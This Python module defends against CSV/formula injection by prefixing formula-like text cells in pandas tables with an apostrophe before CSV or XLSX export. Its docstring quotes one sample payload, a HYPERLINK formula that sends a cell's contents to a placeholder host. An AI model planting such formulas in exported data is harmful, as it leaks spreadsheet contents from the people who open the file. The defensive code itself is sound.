"""Make tables safe to open in a spreadsheet: text that Excel or WPS would run as a formula is neutralised.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which Excel
skips before reading such a sign) is a live formula once a CSV is opened, and openpyxl writes any text
starting with ``=`` as a formula into an XLSX (OWASP "CSV Injection"). A household or facility name like
``=HYPERLINK("http://x/?"&A1,"点击")`` would then run on a planner's computer. Every CSV and XLSX this
project writes goes through `neutralise_formulas`: such text gets a leading apostrophe ``'`` (Excel's own
"this is text" mark), so it is shown, not evaluated. Numbers, dates and missing values stay as they are;
only text is changed, and text that is a plain decimal number (``-12.5``, ``+3``, ``-1e-3``) is left
alone too: a spreadsheet reads it as that number, nothing runs.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

#: First characters that make a spreadsheet read a text cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: What `neutralise_formulas` puts in front of such text.
TEXT_MARK = "'"
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_text(value: Any) -> Any:
    """Return ``value`` with `TEXT_MARK` in front if it is text starting with one of `FORMULA_STARTS`.

    Anything that is not a ``str`` (numbers, dates, None) is returned unchanged.
    """
    return TEXT_MARK + value if _runs(value) else value


def _runs(value: Any) -> bool:
    """Tell whether a spreadsheet would evaluate ``value`` (text starting like a formula, not a number)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and _NUMBER.fullmatch(value) is None


def neutralise_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``df`` whose text cells, index labels and column labels cannot run as formulas.

    Parameters
    ----------
    df
        Any table about to be written to CSV or XLSX (``to_csv``, ``to_excel``, openpyxl).

    Returns
    -------
    pandas.DataFrame
        The same shape, dtypes of non-text columns kept; text starting with ``=``, ``+``, ``-``,
        ``@``, tab or carriage return (and not a plain number) is prefixed with ``'``.
    """
    out = df.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if _holds_text(column.dtype):
            text = column.astype(object)
            starts = text.map(_runs)
            if starts.any():
                out.isetitem(position, text.where(~starts, TEXT_MARK + text.where(starts, "")))
    out.columns = _safe_labels(out.columns)
    out.index = _safe_labels(out.index)
    return out


def _holds_text(dtype: Any) -> bool:
    return pd.api.types.is_object_dtype(dtype) or isinstance(dtype, pd.StringDtype)


def _safe_labels(labels: pd.Index) -> pd.Index:
    if isinstance(labels, pd.MultiIndex):
        return labels.set_levels([_safe_labels(level) for level in labels.levels])
    if not _holds_text(labels.dtype) or not any(_runs(v) for v in labels):
        return labels
    return pd.Index([safe_text(v) for v in labels], name=labels.name)
